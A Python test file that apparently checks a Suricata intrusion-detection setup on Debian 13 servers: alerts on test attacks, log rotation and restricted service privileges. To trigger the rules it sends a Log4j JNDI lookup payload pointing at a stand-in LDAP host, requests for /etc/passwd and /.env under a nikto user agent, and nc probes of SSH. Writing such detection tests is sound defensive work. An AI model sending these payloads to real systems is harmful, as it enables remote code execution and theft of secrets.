"""What crosses the network is looked at, where the system packages Suricata."""

from __future__ import annotations

import time

import pytest

EVE = "/var/log/suricata/eve.json"


# Debian 12 has it in its backports alone, which this scenario does not add: the first test sees that nothing came.
ON_DEBIAN_13 = pytest.mark.parametrize("host", ["difusor13"], indirect=True)


@pytest.fixture
def watched(host):
    """A server that has Suricata."""
    assert host.exists("suricata")
    host.check_output("fail2ban-client unban --all")
    return host


def wait_for(host, words: str) -> str:
    """Return the alert with these words."""
    deadline = time.monotonic() + 30
    while True:
        found = host.run(f"grep -F '\"event_type\":\"alert\"' {EVE} | grep -F '{words}'")
        if found.rc == 0:
            return found.stdout
        assert time.monotonic() < deadline, host.check_output(f"tail -n 5 {EVE}")
        time.sleep(0.5)


def test_it_is_where_it_is_packaged(host):
    packaged = "Candidate: (none)" not in host.check_output("apt-cache policy suricata")
    assert host.exists("suricata") == packaged
    assert host.service("suricata").is_running == packaged


@ON_DEBIAN_13
def test_an_attack_is_an_alert_that_names_the_attacker(watched, reader):
    host = watched
    assert "Log4j lookup" not in host.run(f"cat {EVE}").stdout
    reader.check_output(f"curl -sS -g -o /dev/null 'http://{host.address}/?x=${{jndi:ldap://198.51.100.1/a}}'")
    alert = wait_for(host, "PREP: Log4j lookup")
    assert f'"src_ip":"{reader.address}"' in alert


@ON_DEBIAN_13
def test_knocking_at_ssh_from_outside_the_list_is_an_alert(watched, reader, origin):
    host = watched
    origin.run(f"nc -z -w 3 {host.address} 22")
    reader.run(f"nc -z -w 3 {host.address} 22")
    alert = wait_for(host, "PREP: SSH from an address outside the list")
    assert f'"src_ip":"{reader.address}"' in alert
    assert f'"src_ip":"{origin.address}"' not in alert


@ON_DEBIAN_13
def test_a_rotated_log_is_written_anew(watched, reader):
    host = watched
    host.check_output("logrotate -f /etc/logrotate.d/suricata")
    reader.check_output(f"curl -sS -o /dev/null 'http://{host.address}/?f=/etc/passwd' -A nikto/2.1")
    reader.check_output(f"curl -sS -o /dev/null http://{host.address}/.env")
    wait_for(host, "PREP: asks for secrets that lie about")


@ON_DEBIAN_13
def test_it_has_few_rights(watched):
    shown = watched.check_output("systemctl show suricata -p NoNewPrivileges -p ProtectSystem -p MemoryMax")
    assert "NoNewPrivileges=yes" in shown
    assert "MemoryMax=536870912" in shown
    pid = watched.check_output("systemctl show suricata -p MainPID --value")
    bounding = int(watched.check_output(f"awk '/^CapBnd:/ {{print $2}}' /proc/{pid}/status"), 16)
    assert not bounding & 1 << 21, "CAP_SYS_ADMIN"
